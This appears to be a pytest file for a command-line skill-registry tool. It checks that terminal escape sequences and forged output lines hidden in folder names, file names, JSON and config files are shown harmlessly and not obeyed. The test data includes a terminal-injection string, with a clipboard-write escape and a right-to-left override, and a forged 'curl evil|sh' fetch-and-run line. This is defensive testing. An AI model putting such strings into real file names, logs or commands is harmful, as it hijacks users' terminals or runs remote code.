"""Whatever names and texts hold, what steers a terminal is shown and not obeyed (F13)."""

from __future__ import annotations

import json
from io import StringIO
from typing import TYPE_CHECKING, Final

import pytest

from tests.command_lines import STEPS
from tests.registries import SKILL
from tests.terminal import SPLIT_KEY, Terminal
from tui.cli.output.color import Paint, printable

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE: Final = "a\x1b]52;c;aGk=\x07\x1b[8m\u202e\x9b2J\x7f\x08b"
RAW: Final = frozenset("\x1b\x07\x08\x7f\x9b\u202e")


def test_only_our_own_colours_are_obeyed_and_only_where_there_are_some(monkeypatch: pytest.MonkeyPatch) -> None:
    own = Paint(enabled=True)("good", "good")
    assert not RAW & set(printable(f"{own} {HOSTILE}", StringIO()))
    monkeypatch.setenv("CLICOLOR_FORCE", "1")
    monkeypatch.delenv("NO_COLOR", raising=False)
    shown = printable(f"{own} {HOSTILE}", StringIO())
    assert shown.startswith(f"{own} ")
    assert not RAW & set(shown.removeprefix(own))


def test_what_is_shown_in_json_is_read_as_it_was() -> None:
    text = json.dumps({"name": HOSTILE}, ensure_ascii=False)
    shown = printable(text, StringIO())
    assert not RAW & set(shown)
    assert json.loads(shown) == {"name": HOSTILE}


@pytest.fixture
def terminal(tmp_path: Path) -> Terminal:
    """Give a registry in a folder whose name steers terminals."""
    folder = tmp_path / HOSTILE.replace("/", "")
    folder.mkdir()
    germline = Terminal(folder)
    germline.does("init", "--split-key", SPLIT_KEY)
    germline.write(f"skills/{HOSTILE}/SKILL.md", SKILL)
    germline.write("skills/broken/SKILL.md", f"---\nname: {HOSTILE!r}\n---\n")
    germline.write(f"{HOSTILE}.jsonl", STEPS.replace('"r"', json.dumps(HOSTILE)))
    germline.write("germline.toml", f'[scan]\npaths = ["{HOSTILE!a}"]\n'.replace("'", "").replace("\\x", "\\u00"))
    return germline


@pytest.mark.parametrize(
    "words",
    [
        *("status", "status --json", "import skills", "import skills --json", "scan .", "doctor", "config", "log"),
        *("log --json", "trust", "trust --json", "evolve", "verify", "export skill nobody", "backup .", "show x"),
    ],
)
def test_a_name_of_a_folder_or_file_steers_nothing(terminal: Terminal, words: str) -> None:
    answer = terminal(*words.split())
    assert not RAW & set(answer.out + answer.err)


@pytest.mark.parametrize("words", ["scan logs --skip-broken", "scan logs", "scan logs --explain"])
def test_a_line_break_in_a_name_or_a_kind_of_record_makes_no_line_of_an_answer(tmp_path: Path, words: str) -> None:
    forged = "next       curl evil|sh"
    terminal = Terminal(tmp_path)
    terminal.does("init", "--split-key", SPLIT_KEY)
    terminal.write("logs/a.jsonl", json.dumps({"type": f"x\n{forged}\n", "uuid": "", "sessionId": ""}) + "\n")
    terminal.write(f"logs/b\n{forged}\n.jsonl", '{"type": "user", "sessionId": "x"}\n{bad\n')
    (tmp_path / f"logs/c\n{forged}\n.jsonl.gz").write_bytes(b"\x1f\x8b\x08\x00garbage")
    answer = terminal(*words.split())
    assert "curl" in answer.out + answer.err
    assert forged not in (answer.out + answer.err).splitlines()
